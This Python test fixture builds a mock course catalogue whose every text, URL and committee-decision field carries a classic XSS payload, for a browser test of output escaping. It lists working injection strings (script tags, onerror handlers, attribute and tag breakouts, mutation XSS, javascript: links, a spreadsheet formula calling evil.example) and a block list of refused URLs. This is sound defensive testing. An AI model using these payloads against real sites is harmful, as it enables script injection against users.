"""A catalogue whose every text, URL and name carries classic script-injection payloads.

`write_xss_catalogue(root)` writes one provider and one program per payload:
payload number i goes into EVERY text field (both languages) of provider
`xss-NN` and of its program `xss-NN/all-fields`, and a URL payload goes into
every URL field. All programs share the field of study 061 (one comparison
table, one field page) and stack into the next (stacked-from links carry the
titles too).

Every payload is marked with where it sits (`{m}` becomes for example
`title.en/img-onerror`), and every way it could run reports itself: an
element it injects carries `data-xss`, a script it runs calls
`window.__xss.push(marker)` or `alert(marker)`. The browser test (test_xss.py)
defines `window.__xss` before any page script and counts all three.

The committee's decisions carry payloads too: every approval's conditions and
evidence (title and URL), every suspension's reason, and the records of
programs withdrawn or renamed whose file is gone (every fourth payload has
a withdrawn program `xss-NN/withdrawn`, and every fourth other one reached its
id by a rename from `xss-NN/old-id`), so the decisions page, timelines,
status notes, tombstone and redirect pages are attacked as well. The
committee list is written beside the catalogue.

Payloads the validator refuses (identifiers, dates, codes, non-https URLs)
are in REFUSED_VALUES: test_xss.py checks that each is refused.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

BASE = Path(__file__).parents[1] / "cases/base"
PROGRAM = yaml.safe_load((BASE / "programs/example-univ/data-certificate.yaml").read_text(encoding="utf-8"))
PROVIDER = yaml.safe_load((BASE / "providers/example-univ.yaml").read_text(encoding="utf-8"))

PUSH = "window.__xss.push('{m}')"

# (name, text): classic payloads for every context a text can land in: element content, double- and
# single-quoted attributes, <title>, <script> (JSON-LD), comments, raw-text elements, template
# literals in scripts, Markdown, an already-escaped payload (caught by anything that unescapes twice,
# such as a search excerpt or `striptags`), mutation XSS, and a spreadsheet formula.
TEXT_PAYLOADS: list[tuple[str, str]] = [
    ("script", "<script data-xss='{m}'>" + PUSH + "</script>"),
    ("img-onerror", "<img src=x data-xss='{m}' onerror=\"" + PUSH + "\">"),
    ("svg-onload", "<svg data-xss='{m}' onload=\"alert('{m}')\"></svg>"),
    ("attr-double-quote", "\" data-xss=\"{m}\" autofocus onfocus=\"" + PUSH + "\" x=\""),
    ("attr-single-quote", "' data-xss='{m}' autofocus onfocus='alert(\"{m}\")' x='"),
    ("close-title", "</title><img src=x data-xss='{m}' onerror=\"" + PUSH + "\">"),
    ("close-script", "</script><script data-xss='{m}'>" + PUSH + "</script>"),
    ("comment-script", "<!--<script>--></script><img src=x data-xss='{m}' onerror=\"" + PUSH + "\">"),
    ("raw-text-escape", "</textarea></style></noscript></template><img src=x data-xss='{m}' onerror=\"" + PUSH + "\">"),
    ("iframe-srcdoc", "<iframe data-xss='{m}' srcdoc=\"<script>parent.__xss.push('{m}')</script>\"></iframe>"),
    ("javascript-link", "<a data-xss='{m}' href=\"javascript:" + PUSH + "\">link</a>"),
    ("pre-escaped", "&lt;img src=x data-xss='{m}' onerror=&quot;" + PUSH + "&quot;&gt;"),
    ("template-literal", "${" + PUSH + "}{{ 7*7 }}{% raw %}"),
    ("markdown", "[link](javascript:" + PUSH + ") **bold** <b data-xss='{m}'>bold</b>"),
    ("mutation", "<math><mtext><table><mglyph><style><img src=x data-xss='{m}' onerror=\"" + PUSH + "\">"),
    ("csv-formula", "=HYPERLINK(\"https://evil.example/?{m}\",\"x\")"),
]

# URLs the schema lets through (https, no white space) that still try to break out where they land.
URL_PAYLOADS: list[tuple[str, str]] = [
    ("url-double-quote", "https://evil.example/\"><img/src=x/data-xss='{m}'/onerror=" + PUSH + ">"),
    ("url-single-quote", "https://evil.example/'><svg/data-xss='{m}'/onload=alert('{m}')>"),
    ("url-close-script", "https://evil.example/</script><script/data-xss='{m}'>" + PUSH + "</script>"),
    ("url-fragment", "https://evil.example/#\"onmouseover=\"" + PUSH + "\"data-xss=\"{m}"),
]

# Values that must never get into the catalogue: (field path, value). The test validates a program
# (or provider) carrying each one and expects an error.
REFUSED_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "http://evil.example/", "//evil.example/", " https://evil.example/",
    "https://evil.example/ onmouseover=alert(1)", "https://evil.example/\"\nonmouseover=alert(1)",
    "https://ｅｖｉｌ.example/", "https://аpple.com/",
]
_IDENTIFIER_FIELDS = [
    ("program", ("provider",)), ("program", ("stackability", "stacks_into", 0)),
    ("program", ("skills", 0, "esco")), ("program", ("fee", "currency")), ("program", ("fields", 0)),
    ("program", ("languages", 0)), ("program", ("delivery", "mode")), ("program", ("assessment", "types", 0)),
    ("program", ("offerings", 0, "start")), ("program", ("credential", "formats", 0)),
    ("provider", ("country",)), ("provider", ("maintainers", 0)), ("provider", ("type",)),
]
_URL_FIELDS = [("program", ("url",)), ("program", ("stackability", "stacks_into_external", 0, "url")),
               ("provider", ("url",)), ("provider", ("contact", "url"))]


def _payload(template: str, marker: str) -> str:
    return template.replace("{m}", marker)


def refused_values() -> list[tuple[str, tuple, str, str]]:
    """(kind, field path, payload name, value) for every value the validator must refuse."""
    values = []
    for kind, path in _IDENTIFIER_FIELDS:
        for name, template in TEXT_PAYLOADS + URL_PAYLOADS:
            values.append((kind, path, name, _payload(template, "refused")))
    for kind, path in _URL_FIELDS:
        for index, url in enumerate(REFUSED_URLS):
            values.append((kind, path, f"bad-url-{index}", url))
    return values


def set_path(data: Any, path: tuple, value: Any) -> None:
    """Set a value by path; a missing list (stacks_into) or mapping (contact) on the way is created."""
    for key, following in zip(path[:-1], path[1:]):
        if isinstance(data, dict) and key not in data:
            data[key] = [None] if isinstance(following, int) else {}
        data = data[key]
    data[path[-1]] = value


@dataclass
class XssCatalogue:
    root: Path
    programs: list[str] = field(default_factory=list)  # program ids, one per payload
    providers: list[str] = field(default_factory=list)
    # "program:title.en" -> payload names placed in that field
    placed: dict[str, list[str]] = field(default_factory=dict)

    def place(self, kind: str, path: str, payload: str) -> str:
        key = f"{kind}:{path}"
        self.placed.setdefault(key, []).append(payload)
        return f"{path}/{payload}"

    @property
    def payload_count(self) -> int:
        return sum(len(names) for names in self.placed.values())


def _is_text(value: Any) -> bool:
    return isinstance(value, dict) and value and set(value) <= {"ja", "en"} and all(
        isinstance(v, str) for v in value.values())


def _fill_texts(node: Any, path: str, template: str, name: str, kind: str, catalogue: XssCatalogue) -> Any:
    """Every text ({ja, en}) under node, replaced by the payload; paths without list indexes."""
    if _is_text(node):
        return {lang: _payload(template, catalogue.place(kind, f"{path}.{lang}", name)) for lang in node}
    if isinstance(node, dict):
        return {k: _fill_texts(v, f"{path}.{k}" if path else k, template, name, kind, catalogue)
                for k, v in node.items()}
    if isinstance(node, list):
        return [_fill_texts(v, f"{path}[]", template, name, kind, catalogue) for v in node]
    return node


def _dump(path: Path, data: dict) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")


def write_xss_catalogue(root: Path) -> XssCatalogue:
    """Write the catalogue into root (catalogue/ layout); return what went where."""
    catalogue = XssCatalogue(root)
    count = len(TEXT_PAYLOADS)
    for index, (name, template) in enumerate(TEXT_PAYLOADS):
        provider_id = f"xss-{index:02d}"
        url_name, url_template = URL_PAYLOADS[index % len(URL_PAYLOADS)]

        provider = _fill_texts(copy.deepcopy(PROVIDER), "", template, name, "provider", catalogue)
        provider["url"] = _payload(url_template, catalogue.place("provider", "url", url_name))
        provider["contact"] = {"url": _payload(url_template, catalogue.place("provider", "contact.url", url_name))}
        _dump(root / "providers" / f"{provider_id}.yaml", provider)
        catalogue.providers.append(provider_id)

        program = copy.deepcopy(PROGRAM)
        program = _fill_texts(program, "", template, name, "program", catalogue)
        program["provider"] = provider_id
        program["fields"] = ["061"]
        program["url"] = _payload(url_template, catalogue.place("program", "url", url_name))
        external = program["stackability"]["stacks_into_external"][0]
        external["url"] = _payload(url_template, catalogue.place("program", "stackability.stacks_into_external[].url",
                                                                 url_name))
        if index + 1 < count:
            program["stackability"]["stacks_into"] = [f"xss-{index + 1:02d}/all-fields"]
        _dump(root / "programs" / provider_id / "all-fields.yaml", program)
        catalogue.programs.append(f"{provider_id}/all-fields")
        _decisions(root, index, provider_id, template, name, url_template, url_name, catalogue)
    committee = root.parent / "governance" / "committee.yaml"
    committee.parent.mkdir(parents=True, exist_ok=True)
    committee.write_text("members:\n" + "".join(f"  - {a}\n" for a in REVIEWERS), encoding="utf-8")
    return catalogue


REVIEWERS = ["xss-chair", "xss-member"]


def _decisions(
    root: Path,
    index: int,
    provider_id: str,
    template: str,
    name: str,
    url_template: str,
    url_name: str,
    catalogue: XssCatalogue,
) -> None:
    """The decisions on payload number `index`'s programs, their texts carrying the payload."""

    def text(path: str) -> dict[str, str]:
        return {lang: _payload(template, catalogue.place("decision", f"{path}.{lang}", name)) for lang in ("ja", "en")}

    def record(program: str) -> dict[str, Any]:
        return {"program": program, "title": text("records[].title"), "provider_name": text("records[].provider_name")}

    program = f"{provider_id}/all-fields"
    evidence = [
        {"url": _payload(url_template, catalogue.place("decision", "evidence[].url", url_name)),
         "title": text("evidence[].title")},
        {"reference": "XSS-MIN-2025", "title": text("evidence[].title")},
    ]
    common = {"reviewers": REVIEWERS, "evidence": evidence}
    number = index * 10
    decisions: list[dict[str, Any]] = []
    if index % 4 == 3:  # the program reached its id by a rename: the old address redirects
        old = f"{provider_id}/old-id"
        decisions.append({"date": "2025-01-10", "kind": "approve", "programs": [old], "valid_until": "2028-01-09",
                          "conditions": text("conditions")})
        decisions.append({"date": "2025-03-10", "kind": "rename", "programs": [old], "renamed_to": program,
                          "reason": text("reason"), "records": [record(old)]})
    else:
        decisions.append({"date": "2025-01-10", "kind": "approve", "programs": [program], "valid_until": "2028-01-09",
                          "conditions": text("conditions")})
    if index % 3 == 1:  # a suspended program shows the reason in its status note
        decisions.append({"date": "2025-06-10", "kind": "suspend", "programs": [program], "reason": text("reason")})
    if index % 4 == 2:  # a withdrawn program whose file is gone: its page comes from the record
        gone = f"{provider_id}/withdrawn"
        decisions.append({"date": "2025-01-10", "kind": "approve", "programs": [gone], "valid_until": "2028-01-09"})
        decisions.append({"date": "2025-09-10", "kind": "withdraw", "programs": [gone], "reason": text("reason"),
                          "records": [record(gone)]})
    for offset, decision in enumerate(decisions):
        data = {"schema_version": 1, **decision, **common}
        _dump(root / "decisions" / f"XSS-2025-{number + offset + 1}.yaml", data)

